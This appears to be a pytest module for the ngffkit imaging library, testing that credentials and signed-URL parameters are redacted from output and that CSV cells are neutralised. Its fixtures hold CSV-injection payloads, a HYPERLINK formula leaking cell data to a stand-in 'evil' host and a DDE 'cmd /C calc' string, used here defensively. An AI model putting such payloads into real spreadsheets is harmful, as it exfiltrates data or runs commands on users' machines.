"""No password, token or URL signature in anything ngffkit shows; no formula in any CSV cell it writes.

URLs with user info (``http://user:pw@host/``) and signed query parameters (S3's ``X-Amz-Signature``, ``sig``,
``token`` ...) are redacted from errors, warnings, node reprs, everything the command line prints (``--json``
included) and the CSV files it writes -- for display only: the URL itself is used as given.
"""

from __future__ import annotations

import csv
import json
import pathlib
import warnings

import numpy as np
import pytest
from loopback.servers import http_file_server, redirecting_server

import ngffkit
from ngffkit.errors import redact, redact_url
from ngffkit.tools.csv_cells import safe_cell

from ..clirun import one_line_error, run

pytestmark = pytest.mark.network

SECRET = "s3cr3t-Pa55"


def with_password(url: str) -> str:
    return url.replace("http://", f"http://reader:{SECRET}@", 1)


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> pathlib.Path:
    root = tmp_path_factory.mktemp("served")
    ngffkit.write_image(np.arange(32 * 32, dtype=np.uint16).reshape(32, 32), root / "img.zarr", name="img")
    return root


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        (f"http://reader:{SECRET}@host/a.zarr", "http://***@host/a.zarr"),
        (f"https://{SECRET}@host/a.zarr", "https://***@host/a.zarr"),
        (
            f"https://b.s3.amazonaws.com/a.zarr/zarr.json?X-Amz-Credential=AKIA&X-Amz-Signature={SECRET}&x=1",
            "https://b.s3.amazonaws.com/a.zarr/zarr.json?X-Amz-Credential=***&X-Amz-Signature=***&x=1",
        ),
        (f"https://acct.blob.core.windows.net/c/a.zarr?sv=2022&sig={SECRET}", None),
        (f"https://host/a.zarr?token={SECRET}", "https://host/a.zarr?token=***"),
        ("s3://bucket/a.zarr", "s3://bucket/a.zarr"),
    ],
)
def test_urls_are_shown_without_their_secrets(url: str, shown: str | None) -> None:
    assert SECRET not in redact_url(url)
    if shown is not None:
        assert redact_url(url) == shown
    assert SECRET not in redact(f"cannot read ('{url}'): URL('{url}') failed")


def test_errors_and_reprs_hide_the_password_but_the_url_still_works(served: pathlib.Path) -> None:
    with http_file_server(served, listing=False) as server:
        image = ngffkit.open(with_password(server.url) + "/img.zarr")
        assert image.url == with_password(server.url) + "/img.zarr"  # used as given ...
        assert SECRET not in repr(image)  # ... shown without it
        assert image.levels[0].compute().sum() > 0
        assert all(entry["authorization"] for entry in server.log.entries)  # the credentials were sent
        with pytest.raises(ngffkit.NGFFError) as caught:
            ngffkit.open(with_password(server.url) + "/missing.zarr")
    assert SECRET not in str(caught.value) and SECRET not in str(caught.value.where)
    assert "***@" in str(caught.value)


def test_a_refused_password_is_a_location_error_whose_cause_is_chained_without_the_secret(served: pathlib.Path) -> None:
    """The HTTP client's own error is kept as the cause (whoever debugs wants it), but a traceback prints the whole
    chain: the client's text quotes the URL with its password, so the cause is that text redacted."""
    import traceback

    with http_file_server(served, listing=False, basic_auth=("reader", "the-right-one")) as server:
        with pytest.raises(ngffkit.LocationError, match="HTTP 401") as caught:
            ngffkit.open(f"{with_password(server.url)}/img.zarr")
        assert {entry["authorization"] for entry in server.log.entries} != {None}  # the credentials were sent
    assert caught.value.__cause__ is not None
    printed = "".join(traceback.format_exception(caught.value))
    assert "HTTP 401" in printed and SECRET not in printed


def test_a_cause_is_chained_as_it_is_unless_its_chain_holds_a_secret() -> None:
    from ngffkit.errors import RedactedCause, safe_cause

    clean = OSError(5, "Input/output error")
    assert safe_cause(clean) is clean
    direct = RuntimeError(f"GET http://reader:{SECRET}@host/img.zarr/zarr.json failed")
    behind = RuntimeError("the request failed")
    behind.__cause__ = ValueError(f"url='https://host/x?X-Amz-Signature={SECRET}'")
    for exc in (direct, behind):
        stand_in = safe_cause(exc)
        assert isinstance(stand_in, RedactedCause) and stand_in.__cause__ is None
        assert str(stand_in).startswith(f"{type(exc).__name__}: ") and SECRET not in str(stand_in)


def test_a_storage_option_of_the_wrong_type_is_a_type_error_not_a_failed_read(
    served: pathlib.Path, tmp_path: pathlib.Path
) -> None:
    """A client's TypeError is a wrong argument (or a changed API), not a network failure: it propagates as it
    was raised -- and the command line, given --storage-options, says so in one line."""
    with http_file_server(served, listing=False) as server:
        with pytest.raises(TypeError):
            ngffkit.open(f"{server.url}/img.zarr", storage_options={"headers": 5})
        proc = run("info", f"{with_password(server.url)}/img.zarr", "--storage-options", '{"headers": 5}')
    assert proc.returncode == 2, proc.stderr
    assert one_line_error(proc).startswith("ngffkit: error: TypeError:") and "--storage-options" in proc.stderr
    assert "Traceback" not in proc.stderr and SECRET not in proc.stderr + proc.stdout


def test_warnings_hide_the_password(served: pathlib.Path, tmp_path: pathlib.Path) -> None:
    plate = tmp_path / "plate.zarr"
    from ngffkit.samples.examples import write_plate

    write_plate(plate, "0.5", rows="A", columns=("1", "2"), fields=1)
    import shutil

    shutil.rmtree(plate / "A" / "2")  # a well the metadata names but that is not there: a warning names it
    with http_file_server(tmp_path, listing=False) as server, warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        ngffkit.open(with_password(server.url) + "/plate.zarr").well("A/2")
    messages = [str(w.message) for w in caught if issubclass(w.category, ngffkit.NGFFWarning)]
    assert messages, [str(w.message) for w in caught]
    assert all(SECRET not in m for m in messages), messages


def test_the_command_line_never_prints_the_password(served: pathlib.Path, tmp_path: pathlib.Path) -> None:
    with http_file_server(served, listing=False) as server:
        url = with_password(server.url) + "/img.zarr"
        described = run("info", url)
        as_json = run("info", url, "--json")
        failed = run("info", with_password(server.url) + "/missing.zarr")
        downloaded = run("download", url, str(tmp_path / "copy.zarr"))
        failed_download = run("download", with_password(server.url) + "/missing.zarr", str(tmp_path / "none.zarr"))
    assert described.returncode == 0, described.stderr
    assert "***@" in described.stdout
    assert as_json.returncode == 0 and "***@" in json.loads(as_json.stdout)["url"]
    assert downloaded.returncode == 0, downloaded.stderr
    assert (tmp_path / "copy.zarr" / "zarr.json").is_file()
    assert "***@" in one_line_error(failed) and "***@" in one_line_error(failed_download)
    for proc in (described, as_json, failed, downloaded, failed_download):
        assert SECRET not in proc.stdout + proc.stderr


def test_signed_query_parameters_are_hidden_in_errors() -> None:
    url = f"http://127.0.0.1:9/a.zarr?X-Amz-Signature={SECRET}"
    proc = run("info", url)
    assert SECRET not in proc.stdout + proc.stderr
    assert "X-Amz-Signature=***" in one_line_error(proc)


def test_credentials_do_not_follow_a_redirect_to_another_host(served: pathlib.Path) -> None:
    """A server may send the client elsewhere (a CDN, a signed-URL service); the password is for the host it was
    given for, and must not travel on to the other one."""
    with (
        http_file_server(served, listing=False) as target,
        redirecting_server(target.url, host="127.0.0.2") as redirect,
    ):
        image = ngffkit.open(redirect.url.replace("http://", f"http://reader:{SECRET}@") + "/img.zarr")
        assert image.levels[0].compute().shape == (32, 32)
    assert redirect.log.entries and all(entry["authorization"] for entry in redirect.log.entries)
    assert target.log.entries
    assert not any(entry["authorization"] for entry in target.log.entries)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil/"&A1,"click")', '\'=HYPERLINK("http://evil/"&A1,"click")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tlabel", "'\tlabel"),
        ("\rlabel", "'\rlabel"),
        ("-1.5", "-1.5"),
        (-1.5, -1.5),
        (7, 7),
        ("DAPI", "DAPI"),
    ],
)
def test_csv_cells_are_never_formulas(value: object, cell: object) -> None:
    assert safe_cell(value) == cell


def test_finder_csv_neutralises_formulas_and_json_stays_exact(tmp_path: pathlib.Path) -> None:
    formula = '=HYPERLINK("http://evil.example/"&A1,"click")'
    ngffkit.write_image(
        np.zeros((2, 16, 16), np.uint8), tmp_path / "data" / "img.zarr", axes="cyx", name="+cmd|' /C calc'!A0",
        channels=[formula, "-1.5"],
    )  # fmt: skip
    out = tmp_path / "table.csv"
    assert run("finder", str(tmp_path / "data"), "--output", str(out)).returncode == 0
    (row,) = list(csv.DictReader(out.read_text().splitlines()))
    assert row["File Name"] == "'+cmd|' /C calc'!A0"
    assert row["Channels"] == "'" + formula + ";-1.5"
    assert row["Size C"] == "2"
    as_json = run("finder", str(tmp_path / "data"), "--json")
    (image,) = json.loads(as_json.stdout)["images"]
    assert image["File Name"] == "+cmd|' /C calc'!A0" and image["Channels"] == formula + ";-1.5"
